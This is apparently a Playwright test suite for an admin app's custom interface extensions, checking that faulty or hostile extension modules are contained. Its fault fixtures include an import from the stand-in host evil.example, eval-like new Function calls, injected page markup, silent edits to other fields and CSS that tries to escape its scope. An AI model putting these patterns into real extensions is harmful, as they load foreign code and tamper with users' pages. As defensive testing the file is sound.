import type { Page } from '@playwright/test';
import { checkA11y, expect, openAnew, test, told } from './fixtures.ts';
import { moveOut, offer } from './moved-out.ts';

const events = '/verlag/collections/termine';
const folder = /\/extensions\/custom\/interfaces\/color-scale\//;
const field = (page: Page) => page.locator('[data-field="eintritt"]');
const slider = (page: Page) => field(page).getByRole('slider');

/** The installation's interface with other code, or answered otherwise. */
async function replaceCode(page: Page, code: string | { status?: number; type?: string; body?: string }) {
  const {
    status = 200,
    type = 'text/javascript',
    body = '',
  } = typeof code === 'string' ? { body: code } : code;
  await page.unroute(folder);
  await page.route(folder, (route) =>
    route.request().url().includes('module.js')
      ? route.fulfill({ status, contentType: type, body })
      : route.fulfill({ status: 404, contentType: 'text/plain', body: 'Not Found' }),
  );
}

test('an interface of the installation: edits, saves, shows in the list, follows the language', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag', path: `${events}/1` });
  await expect(slider(page)).toBeVisible();
  await expect(field(page).getByRole('button', { name: 'Clear' })).toBeVisible();
  await slider(page).focus();
  await page.keyboard.press('Home');
  await page.keyboard.press('ArrowRight');
  await expect(field(page).locator('output')).toHaveText(/^0[.,]5 €$/);
  await checkA11y(page);
  await page.keyboard.press('Control+s');
  await expect(told(page, 'Saved')).toBeVisible();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Control+s');
  const history = page.getByRole('complementary', { name: 'Activity' });
  await history.getByRole('button', { name: '1 change' }).click();
  await expect(history.getByText(/^1 €$/)).toBeVisible();
  await expect(history.getByText(/^0[.,]5 €$/)).toBeVisible();
  await page.goto(`#${events}?columns=titel,eintritt`);
  const prices = page.getByRole('gridcell', { name: / €$/ });
  await expect(page.getByRole('gridcell', { name: /^1 €$/ })).toBeVisible();
  await page.getByRole('button', { name: 'Add a filter' }).click();
  await page.getByRole('combobox', { name: 'Find a field' }).fill('Eintritt');
  await page.getByRole('treeitem', { name: 'Eintritt', exact: true }).click();
  await page.getByRole('dialog', { name: 'Filter', exact: true }).getByRole('spinbutton').fill('1');
  await page.keyboard.press('Enter');
  await expect(prices).toHaveText(['1 €']);
  const speak = (locale: string) =>
    page.request.patch(new URL('/verlag/users/me', page.url()).href, { data: { locale } });
  expect((await speak('de-DE')).ok()).toBe(true);
  await openAnew(page, `#${events}/1`);
  await expect(field(page).locator('output')).toHaveText('1 €');
  await expect(field(page).getByRole('button', { name: 'Leeren' })).toBeVisible();
  expect((await speak('en-US')).ok()).toBe(true);
});

const shell = (body: string) => `
  import { createElement as h, useEffect, useState } from 'react';
  export default { Input(props) { ${body} }, Display: ({ value }) => h('b', null, 'Costs ' + value) };`;

/** What is wrong with its code, by what its field says of it; `press`: it goes wrong when its button is pressed. */
const broken: Record<string, { code: Parameters<typeof replaceCode>[1]; says: RegExp; press?: boolean }> = {
  'is not there': { code: { status: 404, type: 'text/plain' }, says: /module\.js isn’t on the server/ },
  'is a page': { code: { type: 'text/html', body: '<!doctype html>' }, says: /as JavaScript/ },
  'can’t be read': { code: 'export default {', says: /syntax error/ },
  'fails while it loads': { code: 'throw new Error("no luck")', says: /failed while loading.*no luck/s },
  'has no input': { code: 'export default { Display: () => null }', says: /default export/ },
  'was made for the old app': { code: 'var __DirectusExtension__ = { template: "<b>" }', says: /Vue app/ },
  'wants code from elsewhere': { code: 'import "https://evil.example/x.js"', says: /failed while loading/ },
  'can’t be drawn': {
    code: shell('throw new Error("cannot draw")'),
    says: /stopped because of an error.*cannot draw/s,
  },
  'throws when it is used': {
    code: shell(
      `return h('button', { type: 'button', onClick() { throw new Error('used wrongly'); } }, 'Press')`,
    ),
    says: /stopped because of an error.*used wrongly/s,
    press: true,
  },
  'makes code of text': {
    code: shell(`return h('i', null, new Function('return 1')())`),
    says: /stopped because of an error/,
  },
  'writes markup': {
    code: shell(
      `useEffect(() => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); }); return h('i')`,
    ),
    says: /stopped because of an error/,
  },
  'draws itself without end': {
    code: shell('const [n, setN] = useState(0); setN(n + 1); return n'),
    says: /stopped because of an error/,
  },
  'changes the value by itself': {
    code: shell(`useEffect(() => props.onChange('99')); return h('i', null, props.value)`),
    says: /without anybody asking/,
  },
  'changes another field by itself': {
    code: shell(
      `useEffect(() => props.onSetField('titel', 'Mine now'), []); return h('i', null, props.value)`,
    ),
    says: /without anybody asking/,
  },
};

for (const [index, [name, { code, says, press = false }]] of Object.entries(broken).entries()) {
  test(`one whose code ${name}: its field says so, its value is safe, the rest is saved @faults`, async ({
    signedIn,
    pageErrors,
  }) => {
    const page = await signedIn('admin', { project: 'verlag' });
    const key = index + 2;
    const stored = async () => {
      const answer = await page.request.get(new URL(`/verlag/items/termine/${key}`, page.url()).href);
      return ((await answer.json()) as { data: { titel: string; eintritt: number } }).data;
    };
    const { titel, eintritt } = await stored();
    await replaceCode(page, code);
    await openAnew(page, `#${events}/${key}`);
    if (press) await field(page).getByRole('button', { name: 'Press' }).click();
    const notice = field(page).getByRole('alert').or(field(page).getByRole('status'));
    await expect(notice).toContainText('“Color scale” can’t be shown');
    await notice.getByText(/^Details$/).click();
    await expect(notice).toContainText(says);
    const standIn = field(page).locator('input');
    await expect(standIn).toHaveValue(new RegExp(`^${eintritt}\\b`));
    // Nothing was changed by it; what stands in is edited and saved like any other.
    await expect(page.getByRole('main').getByRole('button', { name: /^\d+ change/ })).toHaveCount(0);
    await expect(page.locator('[data-field="titel"] input')).toHaveValue(titel);
    await standIn.fill('9');
    await page.keyboard.press('Control+s');
    await expect(told(page, 'Saved')).toBeVisible();
    expect(await stored()).toMatchObject({ titel, eintritt: 9 });
    pageErrors.length = 0;
  });
}

test('one that changes its value over and over: what was asked for stays, and it is shut off @faults', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag' });
  await replaceCode(
    page,
    shell(`
      const [isOn, setOn] = useState(false);
      useEffect(() => {
        if (!isOn) return undefined;
        const timer = setInterval(() => props.onChange(String(Math.random())), 1);
        return () => clearInterval(timer);
      });
      return h('button', { type: 'button', onClick() { props.onChange('7'); setOn(true); } }, 'Press');`),
  );
  await openAnew(page, `#${events}/18`);
  await field(page).getByRole('button', { name: 'Press' }).click();
  await expect(field(page).getByText(/without anybody asking/)).toBeVisible();
  await expect(field(page).locator('input')).toHaveValue(/^7/);
});

test('one that speaks after it has left, or says again what is there, changes nothing @faults', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag' });
  await replaceCode(
    page,
    shell(`
      useEffect(() => { props.onChange(props.value); return () => setTimeout(() => props.onChange('99'), 50); }, []);
      return h('button', { type: 'button', onClick() { props.onChange('7'); } }, 'Press ' + props.value);`),
  );
  await openAnew(page, `#${events}/19`);
  const button = field(page).getByRole('button', { name: /^Press/ });
  await expect(button).toBeVisible();
  await page.goto(`#${events}`);
  await expect(page.getByRole('heading', { level: 1, name: 'Termine' })).toBeVisible();
  await page.goto(`#${events}/19`);
  await expect(button).not.toHaveText('Press 99');
  await button.click();
  await expect(button).toHaveText('Press 7');
  await expect(page.getByRole('main').getByRole('button', { name: '1 change' })).toBeVisible();
});

test('one whose code does not come is given up after ten seconds, and can be asked for again @faults', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag' });
  let waits = true;
  await page.route(/color-scale\/module\.js/, async (route) => {
    if (!waits) await route.fallback();
  });
  await page.clock.install();
  await openAnew(page, `#${events}/1`);
  await expect(page.locator('[data-field="titel"] input')).toBeVisible();
  await expect(field(page)).toBeVisible();
  await page.clock.runFor(10_000);
  await expect(field(page).getByText(/within 10 seconds/)).toBeVisible();
  waits = false;
  await field(page).getByRole('button', { name: 'Try again' }).click();
  await expect(slider(page)).toBeVisible();
});

test('its styles hold in its own element, and what was replaced is run after a reload', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag' });
  const versions = {
    module: shell(`return h('p', { className: 'mine' }, 'Version one')`),
    styles:
      '.mine { color: rgb(1, 2, 3) } } body { color: rgb(9, 9, 9) } input, h1 { display: none } :root { --x: 1',
  };
  await page.route(folder, (route) => {
    const isSheet = route.request().url().includes('.css');
    // As servers do that say nothing else: for a while a browser takes it from its cache.
    const headers = { 'last-modified': 'Wed, 01 Jan 2020 00:00:00 GMT' };
    return route.fulfill({
      contentType: isSheet ? 'text/css' : 'text/javascript',
      body: isSheet ? versions.styles : versions.module,
      headers,
    });
  });
  await openAnew(page, `#${events}/1`);
  await expect(field(page).getByText('Version one')).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(page.locator('[data-field="titel"] input')).toBeVisible();
  await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(9, 9, 9)');
  versions.module = shell(`return h('p', { className: 'mine' }, 'Version two')`);
  versions.styles = '.mine { color: rgb(4, 5, 6) }';
  await page.reload();
  await expect(field(page).getByText('Version two')).toHaveCSS('color', 'rgb(4, 5, 6)');
});

test('it stands in the settings with the fields that use it, in the debugger, and in a field’s set-up with its options', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag', path: '/verlag/settings/interfaces' });
  const row = page.getByRole('row', { name: /color-scale/ });
  await expect(row).toContainText('Extension');
  await expect(row).toContainText(/Used by Termine › Eintritt/);
  await checkA11y(page);
  await row.getByRole('link', { name: 'Color scale' }).click();
  await expect(page.getByRole('heading', { level: 1, name: /^Color scale/ })).toBeVisible();
  await expect(page.locator('[data-probe]').getByRole('slider')).toBeVisible();
  await page.goto('#/verlag/settings/collections/termine');
  await page.locator('[data-row="eintritt"]').getByRole('rowheader').getByRole('button').click();
  await expect(page.locator('[data-option="unit"]')).toContainText('Shown after the number');
  await expect(page.locator('[data-option="unit"] input')).toHaveValue('€');
});

test('one made for the old app is named with what stands in for it, and never run @faults', async ({
  signedIn,
}) => {
  const page = await signedIn('admin', { project: 'verlag' });
  await page.route(folder, (route) =>
    /\/(?:input|display)\.js/.test(route.request().url())
      ? route.fulfill({
          contentType: 'text/javascript',
          body: 'window.wasRun = true; __DirectusExtension__ = { template: "<b>" }',
        })
      : route.fulfill({ status: 404, contentType: 'text/plain', body: 'Not Found' }),
  );
  await openAnew(page, '#/verlag/settings/interfaces');
  const row = page.getByRole('row', { name: /color-scale/ });
  await expect(row).toContainText(/made for the Vue app/);
  await expect(row).toContainText('Used by Termine › Eintritt (Numeric stands in)');
  await page.goto(`#${events}/1`);
  await expect(field(page).getByText(/made for the Vue app/)).toBeVisible();
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
});

test('the app’s own rating and tags, moved out into extensions unchanged, work as they do in the app', async ({
  signedIn,
}) => {
  test.setTimeout(120_000);
  const page = await signedIn('admin', { project: 'verlag' });
  for (const [name, type] of [
    ['rating', 'integer'],
    ['tags', 'array'],
  ] as const) {
    const meta = { id: `${name}-moved`, name: `Moved ${name}`, types: [type] };
    await offer(page, 'interfaces', await moveOut(`interfaces/${name}`), meta);
    await openAnew(page, `#/verlag/settings/interfaces/${name}-moved`);
    const probe = page.locator('[data-probe]');
    await expect(page.getByRole('heading', { level: 1, name: `Moved ${name}` })).toBeVisible();
    if (name === 'rating')
      await probe.getByRole('slider').or(probe.getByRole('radio')).last().press('ArrowRight');
    else {
      await probe.getByRole('textbox').fill('fog');
      await page.keyboard.press('Enter');
      await expect(probe.getByText('fog', { exact: true })).toBeVisible();
    }
    await expect(probe.locator('output[data-changes="1"]')).toBeVisible();
  }
});
